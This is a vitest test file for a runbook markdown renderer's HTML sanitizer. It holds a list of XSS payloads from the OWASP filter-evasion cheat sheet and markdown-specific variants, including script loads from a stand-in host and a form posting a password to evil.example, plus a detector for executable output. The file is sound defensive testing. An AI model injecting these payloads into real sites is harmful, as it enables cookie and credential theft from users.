import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitizeRunbookHtml } from '../../../src/connectors/runbooks/render.js';

// OWASP XSS filter-evasion cheat sheet vectors, and markdown-specific ones.
const VECTORS = [
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  "<svg/onload=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="position:fixed;top:0;left:0;width:100%;height:100%">overlay</DIV>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '[a](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[ref][r]\n\n[r]: javascript:alert(1)',
];

const SAFE_TAGS = new Set(['h1', 'p', 'a', 'img', 'span', 'pre', 'code', 'div', 'table', 'br']);

/** What a browser could run or load from the html: tags off the list, handlers, styles, non-http links. */
function executableParts(html: string): string[] {
  const found: string[] = [];
  for (const [, name = '', attributes = ''] of html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)) {
    if (!SAFE_TAGS.has(name.toLowerCase())) found.push(`<${name}>`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/gi)) {
      if (/^on|^style$/i.test(attribute)) found.push(attribute);
      if (attribute === 'href' && !/^https?:\/\//.test(value)) found.push(`href=${value}`);
      if (attribute === 'src' && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(value))
        found.push(`src=${value}`);
    }
  }
  return found;
}

describe('runbook html is sanitized by an allow-list before it is stored', () => {
  it.each(VECTORS)('%s renders nothing executable', (vector) => {
    const { html } = renderMarkdown(`# t\n\n${vector}\n`);
    expect(executableParts(html)).toEqual([]);
    // Escaped text stays text: nothing the html parser could read as a tag.
    expect(html).not.toMatch(/<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input)\b/i);
  });

  it('keeps http(s) links, opening outside, and headings with ids for the table of contents', () => {
    const { html, toc } = renderMarkdown('# Disk\n\n## 步骤\n\nSee [the wiki](https://wiki.example/disk).');
    expect(html).toContain(
      '<a href="https://wiki.example/disk" rel="noopener noreferrer nofollow" target="_blank">the wiki</a>',
    );
    expect(toc).toEqual([
      { level: 1, anchor: 'rb-h1', text: 'Disk' },
      { level: 2, anchor: 'rb-h2', text: '步骤' },
    ]);
  });

  it('keeps an image only as its cached data: copy, never a remote load', () => {
    const cached = 'data:image/png;base64,iVBORw0KGgo=';
    const { html } = sanitizeRunbookHtml(
      '<img src="a.png" alt="a"><img src="https://x.example/b.png" alt="b">',
      {
        images: new Map([['a.png', cached]]),
      },
    );
    expect(html).toBe(`<img src="${cached}" alt="a" /><span>[b]</span>`);
  });
});
